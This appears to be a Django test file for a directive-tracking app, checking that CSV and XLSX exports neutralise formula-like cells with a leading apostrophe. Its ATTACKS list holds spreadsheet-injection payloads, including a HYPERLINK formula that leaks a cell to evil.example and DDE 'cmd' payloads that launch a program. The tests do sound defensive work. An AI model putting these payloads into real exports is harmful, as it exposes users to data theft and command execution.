"""Spreadsheet exports never carry a live formula (CSV or XLSX): text a user typed
that starts like a formula is neutralised with a leading apostrophe."""

from __future__ import annotations

import csv
import io

import openpyxl
from django.test import SimpleTestCase

from directives import services
from lampang_tracker.exports import neutralise_cell
from tests.base import TrackerTestCase

URL = "/directives/"

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


class NeutraliseCellTests(SimpleTestCase):
    def test_it_prefixes_every_formula_start_with_an_apostrophe(self):
        for value in ATTACKS:
            with self.subTest(value=value):
                self.assertEqual(neutralise_cell(value), "'" + value)

    def test_it_leaves_ordinary_text_numbers_and_placeholders_alone(self):
        for value in ("ขอให้รณรงค์", "๑.๒", "29/11/2560", "", "-", " - ", "a=b", "'=quoted already", 5, None):
            with self.subTest(value=value):
                self.assertEqual(neutralise_cell(value), value)


class FormulaExportTests(TrackerTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        for i, attack in enumerate(ATTACKS, start=1):
            services.directive_create(
                meeting=cls.meeting,
                number=f"9.{i}",
                text=attack,
                parties=services.parties_from(free_text=[attack]),
                by=cls.secretariat,
            )
        services.directive_create(
            meeting=cls.meeting,
            number="8",
            heading='=HYPERLINK("http://evil.example")',
            text="ข้อความธรรมดา",
            parties=services.parties_from(free_text=["-"]),
            by=cls.secretariat,
        )

    def export(self, fmt: str):
        self.login(self.secretariat)
        response = self.client.get(URL, {"_export": fmt})
        self.assertEqual(response.status_code, 200)
        return response

    def csv_rows(self) -> list[list[str]]:
        content = self.export("csv").content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(content)))

    def test_no_csv_cell_starts_like_a_formula(self):
        rows = self.csv_rows()
        self.assertGreater(len(rows), len(ATTACKS))
        for row in rows:
            for cell in row:
                with self.subTest(cell=cell):
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell != "-", cell)

    def test_the_csv_keeps_the_text_after_the_apostrophe(self):
        texts = {row[2] for row in self.csv_rows()}
        parties = {row[3] for row in self.csv_rows()}
        for attack in ATTACKS:
            with self.subTest(attack=attack):
                # Leading blanks are trimmed on the way in ("\t=1+1" is kept as "=1+1").
                self.assertIn("'" + attack.strip(), texts)
                self.assertIn("'" + attack.strip(), parties)
        self.assertIn('\'=HYPERLINK("http://evil.example") ข้อความธรรมดา', texts)
        self.assertIn("-", parties)  # a lone dash placeholder reads as it was typed

    def test_no_xlsx_cell_is_a_formula(self):
        book = openpyxl.load_workbook(io.BytesIO(self.export("xlsx").content))
        sheet = book.active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertGreater(len(cells), 6 * len(ATTACKS))
        for cell in cells:
            with self.subTest(cell=cell.coordinate, value=cell.value):
                self.assertNotEqual(cell.data_type, "f")
                if isinstance(cell.value, str) and cell.value != "-":
                    self.assertFalse(cell.value.startswith(("=", "+", "-", "@", "\t", "\r")))
        texts = {cell.value for cell in cells}
        self.assertIn("'=cmd|' /C calc'!A0", texts)
        self.assertIn("'@SUM(1+1)*cmd|' /C calc'!A0", texts)
